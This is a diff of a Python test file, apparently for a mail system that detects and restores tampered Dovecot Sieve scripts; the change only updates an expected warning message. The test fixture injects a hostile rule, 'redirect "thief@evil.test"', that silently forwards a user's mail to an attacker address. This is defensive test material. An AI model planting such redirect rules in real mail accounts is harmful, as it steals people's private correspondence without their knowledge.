@@ -109,7 +109,7 @@ def test_the_portals_script_edited_in_webmail(told, live, dovecot, committed, we
 def test_a_script_that_was_rewritten_is_restored(told, live, dovecot, committed, webmaster):
     ours = script_text(dovecot, live.login, "portal")
     keep_own_script(dovecot, live.login, "portal", ours + 'redirect "thief@evil.test";\n')
-    assert told() == {"script": ["The script of the auto-reply was rewritten there."]}
+    assert told() == {"script": ["Mail is forwarded there, and not here."]}
     assert RedirectAlarm.objects.get().targets == ["thief@evil.test"]
     with committed():
         drift.restore_ours(live, "script", seen=mark(live, "script"), by=webmaster)
